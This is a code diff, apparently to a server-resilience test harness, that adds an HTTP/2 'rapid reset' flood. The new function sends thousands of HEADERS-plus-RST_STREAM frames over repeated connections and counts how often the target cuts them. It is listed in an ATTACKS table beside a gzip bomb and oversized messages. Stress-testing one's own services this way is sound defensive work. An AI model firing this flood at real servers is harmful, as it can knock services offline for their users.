@@ -183,6 +183,18 @@ def reset_flood_many(target):
     return f"{len(ends)} connections with 100 each, {cut} cut"
 
 
+def reset_flood_again(target):
+    """The same over and over: whoever is cut comes back at once."""
+    block = h2.call_headers(h2.SERVICE + "Search")
+    frames = b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, s, block) + h2.rst_stream(s) for s in range(1, 4000, 2))
+    connections = cut = 0
+    end = time.monotonic() + 5 * target.scale
+    while time.monotonic() < end:
+        cut += push(target, [frames], seconds=1, number=connections).startswith("cut")
+        connections += 1
+    return f"{connections} connections with 2000 each, {cut} cut"
+
+
 def gzip_bomb(target):
     maker = zlib.compressobj(9, zlib.DEFLATED, 31)
     zeros = bytes(1 << 20)
@@ -268,6 +280,7 @@ ATTACKS = dict(
     reset_flood=reset_flood,
     reset_flood_calls=reset_flood_calls,
     reset_flood_many=reset_flood_many,
+    reset_flood_again=reset_flood_again,
     gzip_bomb=gzip_bomb,
     oversized_message=oversized_message,
     nested_message=nested_message,
